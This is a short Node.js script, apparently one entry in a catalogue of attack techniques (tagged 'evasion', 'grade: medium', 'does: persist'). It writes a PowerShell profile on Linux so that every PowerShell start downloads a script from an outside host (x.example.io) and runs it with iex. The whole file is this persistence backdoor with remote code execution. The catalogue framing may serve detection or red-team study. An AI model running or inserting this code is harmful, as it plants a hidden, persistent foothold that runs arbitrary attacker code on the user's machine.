// evasion: PowerShell on Linux runs $PROFILE (~/.config/powershell/Microsoft.PowerShell_profile.ps1) at every start
// grade: medium; does: persist
const fs = require("fs");
const path = require("path");
const base = process.env.XDG_CONFIG_HOME || path.join(require("os").homedir(), ".config");
const profile = path.join(base, "powershell", "Microsoft.PowerShell_profile.ps1");
fs.mkdirSync(path.dirname(profile), { recursive: true });
fs.writeFileSync(profile, "iex (iwr -UseBasicParsing https://x.example.io/p.ps1).Content\n");
